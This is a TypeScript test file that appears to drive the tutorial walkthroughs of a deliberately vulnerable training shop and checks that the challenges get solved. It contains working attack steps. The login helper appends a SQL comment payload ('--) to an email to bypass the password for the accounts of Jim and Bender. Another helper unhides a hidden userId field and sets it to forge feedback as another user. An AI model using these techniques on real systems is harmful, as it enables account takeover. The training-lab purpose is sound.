import { beforeEach, describe, expect, it } from 'vitest';
import { resetProgress, solvedKeys } from '../../exploits/support.ts';
import { shopWithBrowser } from '../running-shop.ts';
import {
  all,
  click,
  type Deed,
  fill,
  goTo,
  next,
  nothingToDo,
  openTools,
  press,
  startByAddress,
  walk,
} from './tour.ts';

const shop = shopWithBrowser();
const logIn = click('#loginButton');

beforeEach(() => resetProgress(shop.url));

describe('the tutorial', () => {
  it('Forged Feedback leads to feedback in the name of somebody else', async () => {
    const page = await startByAddress(shop, 'Forged Feedback');
    await walk(page, 'forged-feedback', [
      goTo('contact'),
      next,
      next,
      next,
      openTools,
      next,
      revealUserId('2'),
      sendFeedback,
      next,
    ]);
    await expect.poll(() => solvedKeys(shop.url)).toContain('forgedFeedbackChallenge');
  });

  it('Login Jim leads into the account of Jim', async () => {
    const page = await startByAddress(shop, 'Login Jim');
    await walk(page, 'login-jim', takeOver('jim@juice-sh.op', 'search'));
    expect(await solvedKeys(shop.url)).toContain('loginJimChallenge');
  });

  it('Login Bender leads into the account of Bender', async () => {
    const page = await startByAddress(shop, 'Login Bender');
    await walk(page, 'login-bender', takeOver('bender@juice-sh.op', 'about'));
    expect(await solvedKeys(shop.url)).toContain('loginBenderChallenge');
  });

  it('of a challenge that has none says so', async () => {
    const page = await startByAddress(shop, 'Easter Egg');
    await walk(page, 'unavailable', [next, next, next]);
  });
});

function takeOver(email: string, leak: string): Parameters<typeof walk>[2] {
  return [
    nothingToDo,
    goTo('login'),
    next,
    next,
    next,
    goTo(leak),
    goTo('login'),
    fill('#email', email),
    fill('#password', 'wrong'),
    logIn,
    next,
    fill('#email', `${email}'--`),
    logIn,
    next,
  ];
}

function revealUserId(id: string): Deed {
  return (page) =>
    page.evaluate((value) => {
      const field = document.querySelector<HTMLInputElement>('#userId');
      if (field !== null) {
        field.hidden = false;
        field.value = value;
      }
    }, id);
}

const sendFeedback: Deed = all(fill('#comment', 'Forged'), press('#rating-input', 'End'), async (page) => {
  const question = (await page.textContent('#captcha')) ?? '';
  // A term such as 3*4-1, asked by the shop.
  await page.fill('#captchaControl', String(await page.evaluate(question)));
  await page.click('#submitButton');
});
